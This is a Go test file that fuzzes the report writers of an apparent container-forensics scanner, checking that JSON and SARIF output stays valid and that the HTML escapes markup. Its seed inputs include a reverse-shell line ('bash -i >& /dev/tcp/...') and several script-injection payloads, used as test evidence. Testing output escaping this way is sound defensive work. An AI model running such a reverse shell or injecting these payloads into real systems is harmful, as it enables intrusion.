package report

import (
	"bytes"
	"encoding/json"
	"strings"
	"testing"
	"time"
	"unicode/utf8"

	"github.com/strata-forensics/strata/audit"
	"github.com/strata-forensics/strata/audit/history"
	"github.com/strata-forensics/strata/forensics"
)

// FuzzScanWriters renders a scan whose image and findings carry arbitrary strings (they come
// from the evidence: paths, tags, history lines, matched text) in every scan format: the JSON
// and SARIF are valid JSON that hold the strings as given, and nothing fails.
func FuzzScanWriters(f *testing.F) {
	f.Add("/usr/share/lib/reverse_shell.so", "strata-demo/webapp:1.2", "RUN /bin/sh -c make # buildkit", "bash -i >& /dev/tcp/203.0.113.7/4444", uint8(3))
	f.Add("a\x00b\xff\xfe", "\x1b[31mred", "</script><script>alert(1)</script>", "\u202eevil", uint8(9))
	f.Fuzz(func(t *testing.T, path, tag, createdBy, evidence string, sev uint8) {
		img := &forensics.Image{Input: forensics.Input{Path: path, Format: "docker-archive"}, Tags: []string{tag}, Digest: "sha256:" + tag}
		res := &audit.Result{Image: img, Files: 3, Scanned: 2, Findings: []audit.Finding{
			{Rule: "STRATA-X-" + tag, Category: audit.CategoryMalware, Severity: audit.Severity(sev % 5), Title: evidence,
				Path: path, Layer: int(sev) - 2, History: 1, CreatedBy: createdBy, Evidence: evidence, Remediation: tag},
			{Rule: "STRATA-CF-007", Category: audit.CategoryMisconfig, Severity: audit.Info, Layer: -1, History: -1, Title: "no HEALTHCHECK"},
		}}
		doc := ScanDocument{Results: []*audit.Result{res}, Version: "test"}
		var b bytes.Buffer
		if err := Render(&b, KindScan, "json", doc); err != nil || !json.Valid(b.Bytes()) {
			t.Fatalf("JSON: %v\n%s", err, b.String())
		}
		var back struct {
			Scans []struct {
				Image    ImageDoc
				Findings []FindingDoc
			}
		}
		if err := json.Unmarshal(b.Bytes(), &back); err != nil || len(back.Scans) != 1 || len(back.Scans[0].Findings) != 2 {
			t.Fatalf("JSON reads back as %+v, %v", back, err)
		}
		if back.Scans[0].Image.Input != jsonString(path) {
			t.Fatalf("input %q reads back as %q", path, back.Scans[0].Image.Input)
		}
		b.Reset()
		if err := Render(&b, KindScan, "sarif", doc); err != nil || !json.Valid(b.Bytes()) {
			t.Fatalf("SARIF: %v\n%s", err, b.String())
		}
		b.Reset()
		if err := Render(&b, KindScan, "text", doc); err != nil {
			t.Fatal(err)
		}
	})
}

// jsonString is s as encoding/json carries it: each byte of invalid UTF-8 becomes U+FFFD.
func jsonString(s string) string {
	var b strings.Builder
	for len(s) > 0 {
		r, n := utf8.DecodeRuneInString(s)
		if r == utf8.RuneError && n == 1 {
			b.WriteRune(utf8.RuneError)
		} else {
			b.WriteString(s[:n])
		}
		s = s[n:]
	}
	return b.String()
}

// FuzzTracingWriters renders a tracing report read from arbitrary JSON (its strings come from
// the evidence and the database) in Markdown, HTML and JSON: none fails, the JSON is valid,
// and the HTML never carries a string from the report raw when it holds markup.
func FuzzTracingWriters(f *testing.F) {
	seed := history.Report{Kind: "scan", Title: "demo", Generated: time.Date(2024, 1, 1, 0, 0, 0, 0, time.UTC),
		Image: &history.Image{}, Family: &history.Family{},
		Findings:   []history.ReportFinding{{Rule: "STRATA-LP-001", Severity: audit.Critical, Title: "preload <b>x</b>", Path: "/x", Evidence: "LD_PRELOAD=/x"}},
		Implant:    []history.ImplantItem{{Path: "/usr/share/lib/x.so", Change: "added", Why: "new library", ContentDiff: "--- a\n+++ b\n@@ -0,0 +1 @@\n+<script>\n"}},
		Indicators: []history.Indicator{{Kind: "ip", Value: "203.0.113.7", Context: "/etc/cron.d/x"}},
		Anomalies:  []history.StoredAnomaly{{Kind: "unsafe-path", Layer: 1, Detail: "tar entry name \"../x\""}},
		Timeline:   []history.Event{{Kind: "layer", What: "layer 5 <img src=x onerror=alert(1)>"}},
	}
	data, err := json.Marshal(seed)
	if err != nil {
		f.Fatal(err)
	}
	f.Add(data, "<script>alert(1)</script>")
	f.Add([]byte(`{"kind":"diff","diff":{"changes":[{"path":"/a","content_diff":"x"}]},"layers":[{"notes":["n"],"introduced_by":{}}]}`), "<svg onload=x>")
	f.Fuzz(func(t *testing.T, data []byte, markup string) {
		var r history.Report
		if json.Unmarshal(data, &r) != nil {
			return
		}
		// What the history store always fills in.
		if r.Image == nil {
			r.Image = &history.Image{}
		}
		if r.Family == nil {
			r.Family = &history.Family{}
		}
		// Between markers that appear nowhere else, so that only the title can match.
		markup = "zq9" + markup + "9qz"
		r.Title = markup
		var b bytes.Buffer
		if err := Render(&b, KindTracing, "md", &r); err != nil {
			t.Fatal(err)
		}
		b.Reset()
		if err := Render(&b, KindTracing, "html", &r); err != nil {
			t.Fatal(err)
		}
		if strings.ContainsAny(markup, "<>&\"'") && strings.Contains(b.String(), markup) {
			t.Fatalf("the HTML report holds %q raw", markup)
		}
		b.Reset()
		if err := Render(&b, KindTracing, "json", &r); err != nil || !json.Valid(b.Bytes()) {
			t.Fatalf("JSON: %v", err)
		}
	})
}
